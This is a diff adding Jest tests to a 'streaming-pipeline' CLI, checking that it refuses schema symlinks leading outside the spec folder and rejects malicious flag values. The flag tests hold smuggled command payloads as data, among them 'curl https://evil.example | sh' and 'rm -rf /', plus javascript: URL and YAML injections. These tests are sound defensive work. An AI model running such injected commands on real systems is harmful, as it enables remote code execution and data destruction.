@@ -1,10 +1,12 @@
 import { execFile } from 'child_process';
 import {
+  existsSync,
   mkdirSync,
   mkdtempSync,
   readFileSync,
   readdirSync,
   rmSync,
+  symlinkSync,
   writeFileSync,
 } from 'fs';
 import { tmpdir } from 'os';
@@ -146,6 +148,104 @@ describe('streaming-pipeline CLI', () => {
     expect(
       readFileSync(join(dir, 'deploy/spark-application.yaml'), 'utf8'),
     ).toContain('namespace: data');
+  });
+
+  it('refuses a schema file that links outside the spec folder', () => {
+    const example = join(repoRoot, 'examples/pipelines/user-events');
+    const specDir = join(dir, 'spec');
+    const outside = join(dir, 'outside');
+    mkdirSync(join(specDir, 'schemas'), { recursive: true });
+    mkdirSync(outside);
+    // A secret outside the folder that happens to parse as an Avro record.
+    writeFileSync(
+      join(outside, 'secret.avsc'),
+      readFileSync(join(example, 'schemas/user_event.avsc'), 'utf8').replace(
+        '"name"',
+        '"doc": "SECRET-TOKEN", "name"',
+      ),
+    );
+    writeFileSync(
+      join(specDir, 'pipeline.yaml'),
+      readFileSync(join(example, 'pipeline.yaml'), 'utf8'),
+    );
+    symlinkSync(
+      join(outside, 'secret.avsc'),
+      join(specDir, 'schemas/user_event.avsc'),
+    );
+    const message =
+      "pipeline.yaml: error: pipeline.source.schema: the schema file schemas/user_event.avsc is a link to a file outside the spec's folder\n";
+    expect(run(['validate', 'pipeline.yaml'], specDir)).toEqual({
+      code: 1,
+      stdout: '',
+      stderr: message,
+    });
+    const out = join(dir, 'out');
+    expect(
+      run(['render', 'pipeline.yaml', '--out', out], specDir),
+    ).toMatchObject({ code: 1, stderr: message });
+    expect(existsSync(out)).toBe(false);
+
+    // A linked folder leads outside just the same.
+    rmSync(join(specDir, 'schemas'), { recursive: true });
+    writeFileSync(
+      join(outside, 'user_event.avsc'),
+      readFileSync(join(outside, 'secret.avsc'), 'utf8'),
+    );
+    symlinkSync(outside, join(specDir, 'schemas'));
+    expect(run(['validate', 'pipeline.yaml'], specDir).stderr).toBe(message);
+
+    // A link that stays inside the folder is fine.
+    rmSync(join(specDir, 'schemas'));
+    mkdirSync(join(specDir, 'schemas'));
+    writeFileSync(
+      join(specDir, 'schemas/real.avsc'),
+      readFileSync(join(example, 'schemas/user_event.avsc'), 'utf8'),
+    );
+    symlinkSync('real.avsc', join(specDir, 'schemas/user_event.avsc'));
+    expect(run(['validate', 'pipeline.yaml'], specDir).code).toBe(0);
+  });
+
+  it.each([
+    ['--spark-version', '4.0.0\nRUN curl https://evil.example | sh', 'expected a Spark version such as 4.0.0'],
+    ['--spark-version', '4.0.0 && rm -rf /', 'expected a Spark version such as 4.0.0'],
+    ['--namespace', 'Kube System', 'expected a Kubernetes namespace'],
+    ['--namespace', 'a'.repeat(64), 'expected a Kubernetes namespace'],
+    ['--techdocs-base-url', ['javascript', 'alert(1)'].join(':'), 'expected an http(s) URL without credentials'],
+    ['--techdocs-base-url', 'ftp://docs.example.com/', 'expected an http(s) URL without credentials'],
+    ['--image', 'job:1 --privileged', 'expected a container image reference'],
+    ['--progress-topic', '__consumer_offsets', 'expected a Kafka topic name'],
+    ['--kubernetes-cluster', 'prod\nevil: true', 'expected the name of a Kubernetes cluster'],
+  ])('refuses %s %j, writing nothing', (flag, value, message) => {
+    const out = join(dir, 'out');
+    const result = run([
+      'render',
+      'examples/pipelines/clickstream/pipeline.yaml',
+      '--out',
+      out,
+      flag,
+      value,
+    ]);
+    expect(result.code).toBe(2);
+    expect(result.stderr).toMatch(
+      new RegExp(
+        `^streaming-pipeline: ${flag}: ${message.replace(/[()]/g, '\\$&')}`,
+      ),
+    );
+    expect(existsSync(out)).toBe(false);
+  });
+
+  it('takes only its own flags, not names of object properties', () => {
+    const result = run([
+      'render',
+      'examples/pipelines/clickstream/pipeline.yaml',
+      '--out',
+      dir,
+      'constructor',
+    ]);
+    expect(result.code).toBe(2);
+    expect(result.stderr).toMatch(
+      /^streaming-pipeline: render needs one FILE and --out DIR\n/,
+    );
   });
 
   it('runs from the repository root as yarn streaming-pipeline', async () => {
